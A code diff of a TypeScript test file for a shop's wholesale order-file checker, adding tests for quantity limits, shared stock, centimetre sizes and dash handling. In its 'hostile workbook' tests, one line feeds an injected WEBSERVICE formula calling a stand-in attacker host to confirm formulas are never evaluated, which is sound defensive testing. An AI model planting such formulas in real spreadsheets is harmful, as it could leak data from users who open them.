@@ -3,7 +3,7 @@ import { eq } from 'drizzle-orm'
 import { strToU8, unzipSync, zipSync } from 'fflate'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import writeXlsxFile from 'write-excel-file/node'
-import { color, product } from '#modules/catalogue/index.ts'
+import { color, product, stock } from '#modules/catalogue/index.ts'
 import { Refusal } from '#platform/refusal.ts'
 import { openTestShop, type TestShop } from '#testing/test-shop.ts'
 import {
@@ -15,6 +15,7 @@ import {
   type TestCompany,
 } from '#testing/test-wholesale.ts'
 import { checkOrderFile } from './check-order-file.ts'
+import { normal } from './find-columns.ts'
 import { makePriceListFile } from './price-list-file.ts'
 import { readTable } from './read-table.ts'
 
@@ -145,6 +146,7 @@ test('every wrong line is named with what is wrong, and what its column could sa
       line(PLAIN, `${madder},39,,-4,,`),
       line(PLAIN, `${madder},39,,1.5,,`),
       line(PLAIN, `${madder},39,,10001,,`),
+      line(PLAIN, `${madder},39,,1000000000,,`),
       line(PLAIN, `${madder},39,,11,,`),
       line(PLAIN, `${madder},39,,4,Nobody,`),
       line(PLAIN, `${madder},39,,4,,Ак-Кийиз`),
@@ -165,6 +167,7 @@ test('every wrong line is named with what is wrong, and what its column could sa
     ['count not_a_number'],
     ['count not_a_number'],
     ['count too_big'],
+    ['count too_big'],
     ['count sold_out'],
     ['logo unknown'],
     ['sole_logo not_allowed'],
@@ -178,12 +181,42 @@ test('every wrong line is named with what is wrong, and what its column could sa
   ])
 })
 
+test('lines with other logos share what lies ready of a colour and size', async () => {
+  const { lines } = await upload(
+    order(`${PLAIN},${madder},38,,7,,`, `${PLAIN},${madder},38,,4,Ак-Кийиз,`, `${PLAIN},${madder},39,,4,,`),
+  )
+  expect(lines.map(({ problems }) => problems)).toEqual([
+    [],
+    [{ column: 'count', code: 'sold_out', known: [], limit: 3 }],
+    [],
+  ])
+})
+
 test('lines are read as people write them: spaces, letters, columns in another order, a title above', async () => {
   const file = csv(
     `Заказ для магазина\r\n\r\nКоличество;Размер;ЦВЕТ ; артикул\r\n1 0;38; ${madder.toUpperCase()} ;${PLAIN}\r\n`,
   )
   const { lines } = await upload(file, 'ru')
   expect(lines).toMatchObject([{ row: 4, problems: [], item: { reyestr_id: PLAIN, count: 10 } }])
+})
+
+test('sizes in centimetres are written and read in the language of the client', async () => {
+  const { db } = shop.context
+  const rename = (from: string, to: string) => db.update(stock).set({ size: to }).where(eq(stock.size, from))
+  await rename('38', '54–55 cm')
+  const { rows } = await readTable(await download('csv', 'ru'))
+  expect(rows.flat()).toContain('54–55\u00a0см')
+  const typed = ['54-55 см', '54–55 cm', '54–55\u00a0см']
+  for (const size of typed)
+    expect(await problemsOf(`${PLAIN},${madder},${size},,1,,`, `${PLAIN},${madder},38,,1,,`)).toEqual([
+      [],
+      ['size unknown'],
+    ])
+  await rename('54–55 cm', '38')
+})
+
+test('a size is found by whatever dash somebody types', () => {
+  expect(normal(' 54-55 CM')).toBe(normal('54–55 cm'))
 })
 
 test('a file that a Russian spreadsheet has saved in its own code page is read', async () => {
@@ -296,7 +329,14 @@ describe('a hostile workbook', () => {
     expect(await issuesOf(xlsx(zipSync(parts)))).toEqual(['file unreadable'])
   })
 
-  test('computes nothing: the row of a formula is named', async () => {
+  test('with formulas of the client’s own beside an order is read', async () => {
+    const parts = await workbook((sheet) =>
+      sheet.replace(/<c r="D2"[^>]*>.*?<\/c>/, `$&<c r="J2"><f>D2*2</f><v>4</v></c>`),
+    )
+    expect((await upload(xlsx(zipSync(parts)))).lines).toMatchObject([{ row: 2, problems: [] }])
+  })
+
+  test('computes nothing: the cell of a formula is named', async () => {
     for (const formula of ['<f>1+1</f><v>2</v>', '<f>WEBSERVICE("http://evil.example")</f>']) {
       const parts = await workbook((sheet) =>
         sheet.replace(/<c r="D2"[^>]*>.*?<\/c>/, `<c r="D2">${formula}</c>`),
